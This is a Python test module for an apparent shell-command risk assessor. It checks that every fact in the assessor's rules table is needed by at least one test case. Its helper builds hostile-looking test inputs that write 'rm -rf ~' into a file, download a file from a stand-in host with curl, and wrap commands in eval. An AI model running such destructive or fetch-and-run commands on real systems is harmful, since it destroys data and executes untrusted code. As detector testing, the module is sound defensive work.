"""Each fact of a program besides what it does, taken away: does a case of that program come out otherwise?

What overrides, is passed over, lasts, is loaded, is safer or sets up a shell.
"""

from __future__ import annotations

from collections import defaultdict
from functools import cache
from typing import TYPE_CHECKING

from tests.case_files import blocks

from assent import rules_table
from assent.assessment import Context, assess
from assent.command import Surroundings, analyse
from assent.pattern import covers, parse_pattern
from assent.pattern.configured import ANY, OverridingWords
from assent.pattern.foreign import PLAIN
from assent.pattern.overrides import OverrideKind, overrides
from assent.policy.persistence import persists
from assent.record import Record, replace
from assent.risk.catalog.tokens import spellings
from assent.risk.category import Category
from assent.risk.remedies import remedies
from assent.rules_table import ANYWHERE, HEEDS, ITEM, KNOWN, LASTS, REQUIRES, SAFER, SETS_UP, SKIPS, TABLE

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from assent.command import Command
    from assent.pattern.overrides import Override

PROJECT = "/home/you/project"
HERE = Surroundings(cwd=PROJECT, home="/home/you", workspace=PROJECT)
CONTEXT = Context(cwd=PROJECT, home="/home/you", workspace=PROJECT)
KINDS = {  # of options that override
    **{name: OverrideKind[name.capitalize()] for name in "who where registry source settings every audience".split()},
    "files": OverrideKind.Outside,
}
FIELDS = (*OverridingWords.__match_args__, SKIPS, ANYWHERE, LASTS, HEEDS, REQUIRES, SAFER, SETS_UP)

# Files that are code by their names, whoever takes them up, of programs that run the project's code anyway; and options
# that make a command ask by another line of its file.
DOUBLED = frozenset(
    f"{program} heeds: {what}"
    for program, _, whats in [
        line.strip().partition(": ")
        for line in """
        ansible: -M --module-path
        ansible-doc: -M --module-path
        ansible-lint: -r
        cargo: --config
        deno: deno.json deno.jsonc package.json
        git: --git-dir .git/config
        go-task: Taskfile.yml taskfile.yml Taskfile.yaml taskfile.yaml *.dist.yml *.dist.yaml
        just: justfile Justfile .justfile
        make: Makefile makefile GNUmakefile
        rails: bin/rails
        rake: Rakefile rakefile Rakefile.rb rakefile.rb rakelib
        turbo: --cwd
    """.strip().split("\n")
    ]
    for what in whats.split()
)


class Row(Record):
    """One line of the cases."""

    kind: str
    command: str
    more: str  # behind = or <

    def told(self) -> list[object]:
        """The findings that a lost fact changes."""
        if self.kind in KINDS:
            return [found.told() for found in self._overriding() if found.kind is KINDS[self.kind]]
        match self.kind:
            case "remotes" | "packages":
                return [found.told() for found in self._overriding() if not found.option]
            case "skips":
                return [self.more] * covers(parse_pattern(f"{self.more} *"), _command(self.command))
            case "lasts":
                return ["lasts"] * persists(_command(self.command))
            case "shown":
                return ["shown"] * (not persists(_command(self.command)))
            case "heeds":
                return [reasons for file in self.more.split() for reasons in self._loaded(file)]
            case "requires":
                found = assess(f"echo x >> {self.more}; {self.command}", CONTEXT).findings
                return [each.reason for each in found if each.category is Category.RunsFetchedCode]
            case "elsewhere":
                found = assess(self.command, CONTEXT).findings
                return [each.reason for each in found if each.category >= Category.ModifiesSystem]
            case "safer":
                findings = assess(self.command, CONTEXT).findings
                return [self.more] * (
                    self.more in [each.text for each in remedies(0, findings, self.command, CONTEXT.cwd)]
                )
            case _:
                found = assess(f'eval "$({self.command})"', CONTEXT).findings
                return [each.reason for each in found if "sets up this shell" in each.reason]

    def wanted(self) -> int:
        """The number of faults that are to be found."""
        if self.kind in KINDS:
            return sum(word.startswith("-") for word in self.command.split())
        return len(self.more.split()) if self.kind == "heeds" else 1

    def _overriding(self) -> list[Override]:
        return list(overrides(_command(self.command).argv, PLAIN))

    def _loaded(self, file: str) -> list[tuple[str, ...]]:
        """The reason why a command runs code where another has written, filled or downloaded the file."""
        context = replace(CONTEXT, cwd=f"{PROJECT}/part")
        writers = f"echo x > {file}", f"echo 'do(\"rm -rf ~\")' > {file}", f"curl -so {file} https://a.example/"
        found = [assess(f"{writer}; {self.command}", context).findings[-1] for writer in writers]
        runs = Category.RunsProjectCode, Category.RunsFetchedCode, Category.Destroys
        reasons = tuple([each.reason for each in found if each.category in runs])
        return [reasons] if reasons else []


class Besides(Record):
    """One fact."""

    names: tuple[str, ...]  # programs that state the same
    what: str
    field: str
    rest: str  # what they state without it

    def is_noticed(self, told: Mapping[str, list[Row]]) -> bool:
        """Whether a case of one of the programs comes out otherwise."""
        item = self.what.rpartition(": ")[2]
        rows = [row for name in self.names for row in told.get(name, ())]
        rows.sort(key=lambda row: item not in row.command and item not in row.more)  # most likely first
        found = {(row.kind, row.command, row.more): row for row in rows}
        before = {name: rules_table.known(name) for name in self.names}
        expected = {key: _before(row) for key, row in found.items()}
        for name, fields in before.items():
            others = {field: text for field, text in fields.items() if field != self.field}
            rules_table._known[name] = others | ({self.field: self.rest} if self.rest else {})
        try:
            return any(row.told() != expected[key] for key, row in found.items())
        finally:
            rules_table._known.update(before)


@cache
def _before(row: Row) -> object:
    """The findings of a case while nothing is taken away, with which many facts are compared."""
    return row.told()


def unnoticed() -> tuple[list[Besides], int]:
    """The facts that no case needs, and how many there are in all."""
    told, found = cases(), [each for each in facts() if each.what not in DOUBLED]
    return [each for each in found if not each.is_noticed(told)], len(found)


def cases() -> dict[str, list[Row]]:
    """The cases of each program."""
    told: dict[str, list[Row]] = defaultdict(list)
    for row in rows():
        told[row.command.split()[0]].append(row)
    return told


def rows() -> list[Row]:
    """The cases."""
    found = []
    for line in [line for block in blocks("programs/besides.txt") for line in block]:
        kind, _, text = line.partition(": ")
        sign = {"skips": " = ", "safer": " = ", "heeds": " < ", "requires": " < "}.get(kind, "\n")
        command, _, more = text.partition(sign)
        found.append(Row(kind, command, more))
    return found


def facts() -> Iterator[Besides]:
    """Every fact of these fields, once for programs that state the same."""
    told: dict[tuple[str, str], list[str]] = defaultdict(list)
    with open(TABLE, encoding="utf-8") as table:
        for name in [key.removesuffix(KNOWN) for key in [line.split("\t")[0] for line in table] if key.endswith(KNOWN)]:
            for field, text in rules_table.known(name).items():
                if field in FIELDS:
                    told[field, text].append(name)
    for (field, text), names in told.items():
        for what, rest in _parts(field, text):
            yield Besides(tuple(names), f"{names[0]} {field}: {what}", field, rest)


def _parts(field: str, text: str) -> Iterator[tuple[str, str]]:
    """Each item, with what is left without it; of the spellings of an option the first stands for all."""
    if field == HEEDS:
        how, operands, options, *files = text.split(ITEM)
        if how == "asked":
            yield how, ITEM.join(["", operands, options, *files])
        if operands:
            yield operands, ITEM.join([how, "", options, *files])
        for option in options.split():
            rest = " ".join([each for each in options.split() if each != option])
            yield option, ITEM.join([how, operands, rest, *files])
        for file in files:
            yield file, ITEM.join([how, operands, options, *[each for each in files if each != file]])
        return
    separator = ITEM if field in (SAFER, SETS_UP) else " "
    items = text.split(separator)
    for item in dict.fromkeys(items):
        if item == ":":  # between lists and what installs them
            continue
        if field in KINDS and _SAID.issuperset(spellings(item)):
            continue
        yield item, separator.join([each for each in items if each != item])


# Options that override whatever the program is.
_SAID = {name for field in KINDS for option in getattr(ANY, field).split() for name in spellings(option)}


def _command(text: str) -> Command:
    return analyse(text, HERE).commands[0]
